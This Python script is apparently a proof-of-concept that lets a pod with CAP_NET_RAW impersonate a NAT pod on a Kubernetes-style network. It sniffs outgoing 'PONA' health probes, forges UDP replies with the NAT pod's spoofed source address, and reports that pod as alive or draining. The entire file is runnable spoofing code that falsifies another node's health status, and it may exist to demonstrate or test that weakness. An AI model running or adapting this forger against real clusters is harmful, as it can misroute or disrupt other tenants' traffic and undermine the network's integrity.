"""Answers the agent's probes from within a client pod, in a NAT pod's name, until it is ended.

With CAP_NET_RAW a pod sees what leaves it, and may send with any address. argv: NAT-POD alive|drain
"""
import socket
import struct
import sys

nat, mode = sys.argv[1:]
seen = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
told = False
while True:
    packet = seen.recv(2048)
    at = packet.find(b"PONA")
    if at < 28 or packet[at + 5] != 1 or packet[at - 28] >> 4 != 4:
        continue  # no question, or not within IPv4 and UDP
    source, destination = packet[at - 16:at - 12], packet[at - 12:at - 8]
    if socket.inet_ntoa(destination) != nat:
        continue
    answer = bytearray(packet[at:at + 24])
    answer[5], answer[6] = 2, 3 if mode == "drain" else 1
    ports = struct.unpack("!HH", packet[at - 8:at - 4])
    udp = struct.pack("!HHHH", ports[1], ports[0], 8 + len(answer), 0) + bytes(answer)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, destination, source)
    raw.sendto(ip + udp, (socket.inet_ntoa(source), 0))
    if not told:
        print("forged", flush=True)
        told = True
